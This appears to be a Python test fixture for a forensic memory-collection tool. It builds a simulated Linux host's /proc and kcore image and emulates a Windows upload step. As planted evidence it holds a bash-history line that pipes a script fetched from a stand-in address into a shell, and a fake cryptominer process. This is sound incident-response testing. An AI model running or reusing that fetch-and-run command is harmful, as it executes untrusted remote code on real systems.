"""The memory of a simulated host, as files: `/proc` and `/sys` below a folder, as far as the collector reads them. The
memory is made up and says whose it is; what a real kernel's looks like is shown in a virtual machine (tests/vm). For a
Windows host, whose step nothing here can run, it does what the step's source does (tests/windows shows that one).

The tag `local:memory` of an instance says what its kernel is like (see `KINDS`).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import struct
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

KINDS = {
    "whole": "gives all of its memory",
    "refused": "refuses it, as with lockdown=confidentiality",
    "half": "shows half of what the instance type has, as one that lies",
    "gaps": "cannot read the last quarter of it",
}
# Where memory begins.
START = 0x10_0000
PAGE = 4096


def content(instance_id: str, size: int) -> bytes:
    """Pages that say whose they are, and which."""
    pages = []
    for number in range(size // PAGE):
        text = f"memory of {instance_id}, page {number}. ".encode()
        pages.append((text * (PAGE // len(text) + 1))[:PAGE])
    return b"".join(pages)


def build(root: Path, instance_id: str, mib: int, kind: str) -> None:
    def put(name: str, data: bytes) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    size = (mib << 20) // (2 if kind == "half" else 1)
    put("proc/version", b"Linux version 6.1.0-simulated (simulated@host) #1 SMP\n")
    put("proc/sys/kernel/osrelease", b"6.1.0-simulated\n")
    put("proc/kallsyms", b"ffffffff81000000 T _text\n")
    put("proc/cpuinfo", b"flags\t\t: fpu vme\n")
    put("proc/iomem", f"{START:08x}-{START + size - 1:08x} : System RAM\n".encode())
    put("sys/kernel/security/lockdown", b"[none] integrity confidentiality\n")
    put("root/.bash_history", b"curl http://203.0.113.9/x | sh\n")
    put("proc/4242/stat", b"4242 (miner) S 1 4242 4242 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0\n")
    put("proc/4242/status", b"Name:\tminer\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n")
    put("proc/4242/cmdline", b"./miner\0--pool\0198.51.100.9\0")
    put("proc/4242/maps", b"")
    put("proc/4242/smaps", b"1000-3000 rw-p 00000000 00:00 0\nRss: 8 kB\nSwap: 0 kB\n")
    put("proc/4242/mem", content(instance_id, 3 * PAGE))
    os.symlink("/tmp/miner (deleted)", root / "proc/4242/exe")
    if kind == "refused":
        put("proc/kcore", b"")
        return
    header = bytearray(64)
    header[:6] = b"\x7fELF\x02\x01"
    struct.pack_into("<Q", header, 32, 64)
    struct.pack_into("<HH", header, 54, 56, 1)
    segment = struct.pack("<IIQQQQQQ", 1, 4, 64 + 56, 0xFFFF_8880_0000_0000 + START, START, size, size, PAGE)
    memory = content(instance_id, size)
    put("proc/kcore", bytes(header) + segment + (memory[: size * 3 // 4] if kind == "gaps" else memory))


# What the local AWS deploys as the memory tool for Windows: it is fetched and compared, and never run.
WINDOWS_TOOL = b"a memory tool for Windows"


def take_windows(values: dict[str, Any], instance_id: str, mib: int, kind: str) -> str:
    """Sends the memory as the step for Windows does, and gives what that says."""
    failed = json.dumps({"event": "failed", "error": "what was fetched has another SHA-256 than the memory tool, and was not run"})
    with urllib.request.urlopen(values["CollectorUrl"]) as answer:
        if hashlib.sha256(answer.read()).hexdigest() != values["CollectorSha256"]:
            return failed
    with urllib.request.urlopen(values["ManifestUrl"]) as answer:
        manifest = json.load(answer)

    def put(address: str, body: bytes, create: bool) -> None:
        headers = {"Content-MD5": base64.b64encode(hashlib.md5(body).digest()).decode(), "Content-Type": ""}
        if create:
            headers["If-None-Match"] = "*"
        with urllib.request.urlopen(urllib.request.Request(address, body, headers, method="PUT")):
            pass

    memory_bytes = mib << 20
    # The first MiB is the hole that an image without headers has in it.
    image = b"\0" * START + content(instance_id, memory_bytes // (2 if kind == "half" else 1))
    parts, size, addresses = [], manifest["partBytes"], manifest["parts"]
    put(manifest["objects"]["started"], b'{"event":"started"}', create=True)
    for number, start in enumerate(range(0, len(image), size), 1):
        part = image[start : start + size]
        address = addresses["template"].replace("{part}", str(number))
        put(address.replace("{signature}", addresses["signatures"][number - addresses["first"]]), part, create=False)
        parts.append({"bytes": len(part), "sha256": "", "crc64nvme": ""})
    parts[-1]["sha256"] = hashlib.sha256(image).hexdigest()
    whole = len(image) >= memory_bytes
    reason = None if whole else f"the tool gave {len(image) >> 20} MiB, and the host has {mib}"
    kernel = {"release": "10.0.20348.0", "machine": "AMD64", "lockdown": None, "fiveLevelPaging": False, "hasBtf": False, "textAddress": None, "tainted": None}  # fmt: skip
    stream = {"format": "raw", "bytes": len(image), "sha256": parts[-1]["sha256"], "partBytes": size, "parts": parts, "retries": 0, "complete": whole}  # fmt: skip
    summary = {
        "schema": 1, "collector": f"windows, tool {values['CollectorSha256']}", "beganUnixMs": 0, "milliseconds": 1, "kernel": kernel,
        "taken": "memory", "reason": reason, "memoryBytes": memory_bytes, "ranges": [], "gapBytes": 0, "gaps": [], "stream": stream,
        "processes": 0, "objects": {}, "errors": [], "peakKib": None,
    }  # fmt: skip
    put(manifest["objects"]["summary"], json.dumps(summary).encode(), create=True)
    return json.dumps({"event": "finished"} if whole else {"event": "failed", "error": reason})
